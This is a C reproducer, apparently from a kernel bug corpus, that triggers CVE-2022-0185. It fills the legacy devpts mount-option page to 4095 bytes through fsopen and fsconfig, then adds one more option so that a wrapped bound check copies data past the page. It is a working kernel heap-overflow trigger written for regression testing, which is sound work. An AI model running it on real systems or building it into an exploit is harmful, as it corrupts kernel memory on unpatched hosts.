// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2022-0185 trigger, written for krr's bug corpus from the fix (722d94847de2): options given
 * one by one to a filesystem that still mounts through the legacy interface (devpts) are joined
 * into a one-page buffer. Fill it to 4095 bytes, within the bound; the next option's bound check
 * wraps around and its key is copied past the page.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef __NR_fsopen
#define __NR_fsopen 430
#endif
#ifndef __NR_fsconfig
#define __NR_fsconfig 431
#endif
#define FSCONFIG_SET_STRING 1

/* FSCONFIG_SET_STRING: the kernel copies at most 255 bytes of the value. */
static int set_string(int fs, const char *key, const char *value)
{
	return syscall(__NR_fsconfig, fs, FSCONFIG_SET_STRING, key, value, 0);
}

/* A string of n copies of 'x'. */
static char *filler(size_t n)
{
	char *s = malloc(n + 1);

	if (!s)
		exit(1);
	memset(s, 'x', n);
	s[n] = '\0';
	return s;
}

int main(void)
{
	int fs = syscall(__NR_fsopen, "devpts", 0);

	if (fs < 0) {
		perror("fsopen(devpts)");
		return 1;
	}
	/*
	 * fsconfig takes values of up to 255 bytes: "a=" + 250 makes 252 bytes, fifteen more
	 * ",a=" + 250 make 4047, and ",a=" + 45 makes 4095, the most the bound allows (it leaves
	 * 4094 - 4047 = 47 bytes for "a=" + 45).
	 */
	for (int i = 0; i < 16; i++) {
		if (set_string(fs, "a", filler(250)) < 0) {
			perror("fsconfig");
			return 1;
		}
	}
	if (set_string(fs, "a", filler(45)) < 0) {
		perror("fsconfig (the last that fits)");
		return 1;
	}
	printf("options fill 4095 bytes of the page; adding one more\n");
	fflush(stdout);
	if (set_string(fs, "c", "d") < 0) {
		perror("fsconfig c (refused where the bug is fixed)");
		return 1;
	}
	puts("the kernel took the option without a report");
	return 0;
}
